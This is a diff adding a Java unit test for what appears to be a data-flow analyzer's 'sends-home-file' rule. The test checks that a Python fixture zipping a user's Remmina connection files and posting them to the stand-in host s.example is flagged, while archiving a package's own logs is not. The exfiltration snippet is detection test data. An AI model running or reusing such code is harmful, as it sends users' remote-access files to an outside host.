@@ -689,6 +689,32 @@ class DataFlowTest {
     }
 
     @Test
+    void whatIsWrittenIntoAnArchiveIsInTheArchivesFile() {
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import glob, os, zipfile, requests",
+                      "root = os.path.join(os.path.expanduser('~'), '.local', 'share', 'Remmina')",
+                      "with zipfile.ZipFile(bundle, 'w') as zf:",
+                      "    for found in glob.glob(os.path.join(root, '*.remmina')):",
+                      "        zf.write(found)",
+                      "with open(bundle, 'rb') as fh:",
+                      "    requests.post('https://s.example/u', files={'f': fh})")))
+          .contains(7);
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import glob, tarfile, requests",
+                      "with tarfile.TarFile(bundle, 'w') as tf:",
+                      "    for found in glob.glob('logs/*.log'):",
+                      "        tf.add(found)",
+                      "requests.post('https://s.example/u', data=open(bundle, 'rb'))")))
+          .isEmpty(); // the package's own logs, archived and sent
+    }
+
+    @Test
     void systemAccountFilesAndTheGnomeKeyringAreSecrets() {
       assertThat(
               reached(
